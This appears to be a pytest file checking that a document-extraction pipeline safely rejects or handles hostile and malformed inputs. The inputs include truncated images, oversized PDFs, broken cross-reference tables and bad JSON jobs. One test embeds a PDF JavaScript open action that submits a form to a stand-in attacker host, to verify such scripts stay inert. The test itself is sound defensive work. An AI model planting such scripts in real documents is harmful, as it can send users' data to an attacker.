"""Hostile and broken documents: each gives a clean result or a clean error, never an exception."""

from __future__ import annotations

import base64
import io
import time

import pytest
from PIL import Image

from extraction import samplegen
from extraction.settings.limits import Limits
from extraction.documents import PDFIUM_LOCK, load_document
from extraction.errors import DocumentError, ErrorCode
from extraction.pipeline import JobInputError, Pipeline
from tests.support.engines import FakeExtractor, FakeOcr

LIMITS = Limits()


def _image(fmt: str, image: Image.Image, **kwargs) -> bytes:
    return samplegen.image_bytes(image, fmt, **kwargs)


@pytest.mark.parametrize("fmt", ["TIFF", "WEBP", "PNG", "JPEG", "GIF", "BMP"])
def test_truncated_images_are_corrupt(fmt):
    data = _image(fmt, Image.effect_noise((300, 200), 60).convert("RGB"))
    with pytest.raises(DocumentError) as info:
        load_document(data[: max(len(data) // 2, 40)], limits=LIMITS)
    assert info.value.code == ErrorCode.CORRUPT_DOCUMENT


def _pdf_with_blank_pages(count: int, size=(595, 842)) -> bytes:
    import pypdfium2 as pdfium

    with PDFIUM_LOCK:
        pdf = pdfium.PdfDocument.new()
        for _ in range(count):
            pdf.new_page(*size).close()
        buffer = io.BytesIO()
        pdf.save(buffer)
        pdf.close()
    return buffer.getvalue()


def test_thousands_of_pages_are_refused_fast():
    data = _pdf_with_blank_pages(3000)
    started = time.perf_counter()
    with pytest.raises(DocumentError) as info:
        load_document(data, limits=LIMITS)
    assert info.value.code == ErrorCode.TOO_MANY_PAGES
    assert time.perf_counter() - started < 2.0


def test_huge_page_is_rendered_under_the_pixel_cap():
    loaded = load_document(_pdf_with_blank_pages(1, size=(14400, 14400)), limits=Limits(max_page_pixels=4_000_000))
    width, height = loaded.pages[0].image.size
    assert width * height <= 4_000_000 * 1.01


def test_pdf_with_zero_pages_and_broken_xref():
    pypdf = pytest.importorskip("pypdf")
    buffer = io.BytesIO()
    pypdf.PdfWriter().write(buffer)
    with pytest.raises(DocumentError) as info:
        load_document(buffer.getvalue(), limits=LIMITS)
    assert info.value.code == ErrorCode.CORRUPT_DOCUMENT
    good = samplegen.write_pdf([samplegen.invoice_page()])
    broken_xref = good.replace(b"xref", b"xfer").replace(b"startxref", b"startxfer")
    try:
        loaded = load_document(broken_xref, limits=LIMITS)  # PDFium may repair it: then it must read
        assert "INV-2024-0042" in loaded.pages[0].text
    except DocumentError as exc:
        assert exc.code == ErrorCode.CORRUPT_DOCUMENT


def test_pdf_javascript_is_never_run():
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(samplegen.write_pdf([samplegen.invoice_page()])))
    writer = pypdf.PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    script = "app.alert('boom'); this.submitForm('https://attacker.invalid/');"
    try:
        from pypdf.actions import JavaScript

        writer.add_open_action(JavaScript(script))
    except ImportError:  # pypdf < 7
        writer.add_js(script)
    buffer = io.BytesIO()
    writer.write(buffer)
    loaded = load_document(buffer.getvalue(), limits=LIMITS)  # no form environment: scripts are inert
    assert "INV-2024-0042" in loaded.pages[0].text


@pytest.mark.parametrize(
    "image",
    [
        Image.new("RGB", (1, 1), "white"),
        Image.new("RGB", (800, 600), "white"),
        Image.new("RGB", (800, 600), "black"),
        Image.new("CMYK", (200, 100), (0, 0, 0, 255)),
        Image.new("I;16", (200, 100), 40000),
        Image.new("P", (200, 100), 3),
        Image.new("RGBA", (200, 100), (0, 0, 0, 0)),
        Image.new("LA", (200, 100), (0, 128)),
    ],
    ids=["1x1", "white", "black", "cmyk", "16bit", "palette", "alpha", "la"],
)
def test_odd_images_go_through_the_whole_pipeline(image):
    fmt = {"CMYK": "JPEG", "I;16": "PNG"}.get(image.mode, "PNG" if image.mode != "P" else "GIF")
    pipeline = Pipeline(FakeOcr(), FakeExtractor(), LIMITS)
    output = pipeline.run_job({"document": {"base64": base64.b64encode(_image(fmt, image)).decode()}})
    document = output["documents"][0]
    assert document["status"] == "ok", document["error"]


@pytest.mark.parametrize(
    "job_input",
    [None, [], "text", 42, {"document": None}, {"document": []}, {"documents": {"a": 1}}, {"document": {"base64": ["x"]}},
     {"document": {"base64": "QQ=="}, "fields": "total"}, {"document": {"base64": "QQ=="}, "options": []}],
)
def test_wrong_json_types_fail_the_job_cleanly(job_input):
    with pytest.raises(JobInputError) as info:
        Pipeline(FakeOcr(), FakeExtractor(), LIMITS).run_job(job_input)
    assert info.value.code == ErrorCode.INVALID_INPUT
